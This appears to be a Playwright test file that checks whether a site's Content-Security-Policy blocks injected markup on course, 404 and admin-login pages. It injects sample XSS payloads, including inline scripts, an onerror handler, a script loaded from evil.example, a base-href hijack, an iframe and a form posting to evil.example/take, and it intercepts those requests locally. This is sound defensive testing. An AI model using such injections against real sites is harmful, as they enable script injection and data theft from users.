import type { Page } from '@playwright/test'
import { test as base, expect } from './academy.ts'

/** Here the browser is meant to complain. */
const test = base.extend({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads what a fixture needs from here.
  quietConsole: async ({}, use) => use(undefined),
})

const said = `document.documentElement.dataset.injected = (document.documentElement.dataset.injected ?? '') + `

/** What an attacker would write into a page if some page let them. */
const injections = [
  `<script>${said}'script '</script>`,
  `<script nonce="guess">${said}'guess '</script>`,
  `<img src="/none.png" onerror="${said}'handler '">`,
  '<script src="https://evil.example/x.js"></script>',
  '<form id="stolen" action="https://evil.example/take" method="post"></form>',
  '<iframe src="https://evil.example/"></iframe>',
]

test('markup injected into a page does not run, whether it comes from memory, is made for this visit or is the staff login', async ({
  page,
}) => {
  const reached = await countVisits(page)
  const blocked = await listBlocked(page)
  for (const path of ['/courses', '/nowhere', '/admin/login']) {
    await test.step(path, async () => {
      blocked.length = 0
      await openInjected(page, path, { keepPolicy: true })
      await expect
        .poll(() => [...new Set(blocked)].sort())
        .toEqual(
          // The frame and the foreign script by address, everything inline by kind.
          expect.arrayContaining(['base-uri', 'frame-src', 'script-src-attr', 'script-src-elem']),
        )
      expect(await injected(page)).toBeUndefined()
      await page.evaluate(() => document.querySelector<HTMLFormElement>('#stolen')?.submit())
      await expect.poll(() => blocked).toContain('form-action')
      expect(reached).toEqual([])
    })
  }

  await test.step('control: without the policy all of it would run', async () => {
    await page.unroute('/courses')
    await openInjected(page, '/courses', { keepPolicy: false })
    await expect.poll(() => injected(page)).toContain('script')
    await expect.poll(() => injected(page)).toContain('handler')
    await expect.poll(() => reached.length).toBeGreaterThan(0)
  })
})

async function openInjected(page: Page, path: string, { keepPolicy }: { keepPolicy: boolean }) {
  await page.route(path, async (route) => {
    const answer = await route.fetch()
    const headers = { ...answer.headers() }
    if (!keepPolicy) delete headers['content-security-policy']
    const html = (await answer.text())
      .replace('<head>', '<head><base href="https://evil.example/">')
      .replace('</body>', `${injections.join('')}</body>`)
    await route.fulfill({ response: answer, headers, body: html })
  })
  await page.goto(path)
}

/** What the browser says that it has blocked. */
async function listBlocked(page: Page) {
  const blocked: string[] = []
  await page.exposeFunction('tellBlocked', (directive: string) => blocked.push(directive))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      const { tellBlocked } = window as unknown as { tellBlocked: (what: string) => void }
      tellBlocked(effectiveDirective)
    })
  })
  return blocked
}

/** Whoever gets as far as the attacker's own site. */
async function countVisits(page: Page) {
  const reached: string[] = []
  await page.route('https://evil.example/**', (route) => {
    reached.push(route.request().url())
    return route.fulfill({ body: '' })
  })
  return reached
}

function injected(page: Page) {
  return page.evaluate(() => document.documentElement.dataset.injected)
}
